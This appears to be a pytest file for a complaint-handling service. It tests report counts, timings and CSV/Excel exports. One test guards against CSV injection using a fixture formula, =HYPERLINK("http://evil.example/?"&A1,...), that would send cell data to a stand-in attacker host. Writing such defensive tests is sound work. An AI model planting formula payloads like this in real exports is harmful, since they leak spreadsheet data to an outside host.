"""Reports over real cases: complaints run through their paths, then counted, timed and listed."""
from __future__ import annotations

import csv
import io

from engine.clock import FakeClock
from tests.complaint_paths import PATHS
from tests.conftest import PROCESSES, bundle
from tests.integration.conftest import deploy

WHO = {"Agent": "agent", "Supervisor": "supervisor", "ComplaintGroup": "supervisor"}


def run_path(server, tokens, clock: FakeClock, letter: str, steps: int | None = None) -> int:  # type: ignore[no-untyped-def]
    """Start a complaint and complete ``steps`` of its path (all by default), 10 minutes each."""
    instance = server.post("/api/v1/instances", tokens["agent"], json={
        "process_key": "complaint_handling"}).json()["id"]
    for bpmn_id, lane, data in PATHS[letter]["steps"][:steps]:
        task = server.get(f"/api/v1/tasks?instance_id={instance}",
                          tokens["admin"]).json()["items"][0]
        assert task["bpmn_id"] == bpmn_id
        clock.advance(minutes=5)
        assert server.post(f"/api/v1/tasks/{task['id']}/claim", tokens[WHO[lane]]).ok
        clock.advance(minutes=5)
        assert server.post(f"/api/v1/tasks/{task['id']}/complete", tokens[WHO[lane]],
                           json={"data": data}).ok
    return instance


def _rename_person(fd, username: str, display_name: str) -> None:  # type: ignore[no-untyped-def]
    """Set a user's display name (no API does: sign-in or the CLI gives it)."""
    from sqlalchemy import update

    from store.tables import User
    with fd.uow() as uow:
        uow.execute(update(User.__table__).where(User.__table__.c.username == username)
                    .values(display_name=display_name))


def test_reports_count_time_and_list_what_happened(server, tokens, clock: FakeClock, fd) -> None:  # type: ignore[no-untyped-def]
    admin, supervisor = tokens["admin"], tokens["supervisor"]
    _rename_person(fd, "agent", "李伟")
    _rename_person(fd, "supervisor", "  ")  # blank: shown by the username
    assert deploy(server, admin, bundle(PROCESSES / "complaint-handling")).ok
    run_path(server, tokens, clock, "B")            # refund 199, satisfied (5)
    run_path(server, tokens, clock, "A")            # not accepted: no satisfaction asked
    run_path(server, tokens, clock, "C", steps=2)   # still open
    customer = server.post("/api/v1/customers", admin, json={"code": "c1", "name": "李伟"}).json()
    for n in range(4):
        server.post(f"/api/v1/customers/{customer['id']}/purchases", admin, json={
            "order_no": f"O{n}", "amount": 10, "purchased_at": clock.now().isoformat()})

    def report(name: str, query: str = "") -> list[dict]:
        response = server.get(f"/api/v1/reports/{name}{query}", supervisor)
        assert response.status_code == 200, response.text
        return response.json()["items"]

    assert report("open-cases") == [{"status": "running", "open_cases": 1}]
    assert report("open-cases", "?group_by=process_key") == [
        {"process_key": "complaint_handling", "open_cases": 1}]
    agents = {row["agent"]: row for row in report("agents")}
    assert agents["agent"]["tasks_resolved"] == 5 + 3 + 2  # B's agent steps, A, C so far
    assert agents["agent"]["median_first_response_min"] == 5.0
    assert agents["agent"]["median_resolution_min"] == 10.0
    assert agents["supervisor"]["tasks_resolved"] == 1  # B's root-cause note
    assert (agents["agent"]["agent_name"], agents["supervisor"]["agent_name"]) == (
        "李伟", "supervisor")
    assert [(r["agent"], r["agent_name"]) for r in report("agents", "?agent=agent")] == [
        ("agent", "李伟")]  # the filter takes the username
    assert report("agents", "?agent=李伟") == []
    exported = server.get("/api/v1/reports/agents?format=csv", supervisor)
    header, *lines = csv.reader(io.StringIO(exported.content.decode("utf-8-sig")))
    assert header[:3] == ["agent", "agent_name", "tasks_served"]  # the username stays first
    assert [line[:2] for line in lines] == [["agent", "李伟"], ["supervisor", "supervisor"]]
    [month] = report("satisfaction")
    assert (month["closed_with_answer"], month["satisfied"], month["average_score"]) == (1, 1, 5)
    [rate] = report("complaint-rate")
    assert (rate["complaints"], rate["orders"], rate["per_100_orders"]) == (3, 4, 75.0)
    [money] = report("finance")
    assert (money["amount"], money["note"], money["signer"]) == (199, "质量问题退款_慧兰", "Huilan")

    exported = server.get("/api/v1/reports/finance?format=csv", supervisor)
    assert exported.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0]["note"] == "质量问题退款_慧兰" and rows[0]["amount"] == "199"
    assert server.get("/api/v1/reports/finance", tokens["agent"]).status_code == 403
    assert server.get("/api/v1/reports/open-cases?group_by=colour", supervisor).status_code == 422


def test_the_openapi_document_describes_the_agents_rows(server) -> None:  # type: ignore[no-untyped-def]
    spec = server.get("/api/v1/openapi.json", None).json()
    answer = spec["paths"]["/api/v1/reports/agents"]["get"]["responses"]["200"]["content"]
    assert answer["application/json"]["schema"]["$ref"] == "#/components/schemas/AgentsReportOut"
    row = spec["components"]["schemas"]["AgentRow"]["properties"]
    assert {"agent", "agent_name", "tasks_served", "sla_breached"} <= set(row)
    assert "display name" in row["agent_name"]["description"]


def test_the_negative_review_register_puts_severe_cases_first(server, tokens, fd) -> None:  # type: ignore[no-untyped-def]
    from services.identity import create_token, ensure_user
    from tests.negative_review_paths import REVIEW
    admin = tokens["admin"]
    ensure_user(fd, "huilan", ["staff"], ["AfterSales"])
    huilan = create_token(fd, "huilan")
    assert deploy(server, admin, bundle(PROCESSES / "negative-review")).ok
    for severity, rating in (("minor", "neutral"), ("severe", "negative"), ("moderate", "neutral")):
        case = server.post("/api/v1/instances", admin,
                           json={"process_key": "negative_review"}).json()
        task = case["open_tasks"][0]
        done = server.post(f"/api/v1/tasks/{task['id']}/complete", huilan,
                           json={"data": {**REVIEW, "severity": severity, "rating": rating}})
        assert done.ok, done.text
    register = server.get("/api/v1/reports/negative-reviews", tokens["supervisor"]).json()["items"]
    assert [r["severity"] for r in register] == ["severe", "moderate", "minor"]
    assert register[0]["wangwang_id"] == "tb_lily88" and register[0]["case_no"].startswith("ZCP")


def test_typed_text_never_runs_as_a_formula_in_the_downloads(server, tokens, fd) -> None:  # type: ignore[no-untyped-def]
    """A buyer's review copied into a case (and so into the register) that starts with "=",
    "+", "-" or "@" stays text in the CSV and the Excel file (CSV injection)."""
    from openpyxl import load_workbook

    from services.identity import create_token, ensure_user
    from tests.negative_review_paths import REVIEW
    admin = tokens["admin"]
    ensure_user(fd, "huilan", ["staff"], ["AfterSales"])
    huilan = create_token(fd, "huilan")
    assert deploy(server, admin, bundle(PROCESSES / "negative-review")).ok
    evil = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
    typed = {"review_content": evil, "item": "@SUM(1+1)", "wangwang_id": "-2+3"}
    case = server.post("/api/v1/instances", admin, json={"process_key": "negative_review"}).json()
    done = server.post(f"/api/v1/tasks/{case['open_tasks'][0]['id']}/complete", huilan,
                       json={"data": {**REVIEW, **typed, "severity": "severe",
                                      "rating": "negative"}})
    assert done.ok, done.text
    url = "/api/v1/reports/negative-reviews"
    text = server.get(url + "?format=csv", tokens["supervisor"]).content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert {row[k] for k in typed} == {"'" + v for v in typed.values()}
    book = load_workbook(io.BytesIO(server.get(url + "?format=xlsx",
                                               tokens["supervisor"]).content))
    cells = [c for line in book.active.iter_rows(min_row=2) for c in line]
    assert evil in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)
